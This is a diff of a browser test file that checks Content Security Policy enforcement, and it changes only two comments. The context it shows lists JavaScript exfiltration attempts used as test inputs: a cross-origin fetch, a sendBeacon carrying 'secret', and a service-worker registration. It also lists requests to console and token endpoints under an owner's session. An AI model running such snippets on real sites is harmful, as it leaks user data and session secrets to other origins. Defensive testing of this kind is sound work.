@@ -8,7 +8,7 @@ import { title } from '../support/visitor.ts';
 
 test.use({ tolerated: /Content Security Policy|Trusted|script policy/ });
 
-/** Attempts to send data to another origin or run its code. */
+/** Attempts to exfiltrate data or run foreign code. */
 const ATTEMPTS: Record<string, string> = {
   fetch: 'fetch(other + "fetch").catch(() => {})',
   beacon: 'navigator.sendBeacon(other + "beacon", "secret")',
@@ -25,7 +25,7 @@ const ATTEMPTS: Record<string, string> = {
   serviceWorker: 'navigator.serviceWorker.register("/dev/null.js").catch(() => {})',
 };
 
-/** Requests to console and registry at its origin with an owner signed in. */
+/** Requests to console and registry with an owner's session. */
 const REQUESTS = [
   ['GET', '/console'],
   ['GET', '/console/tokens'],
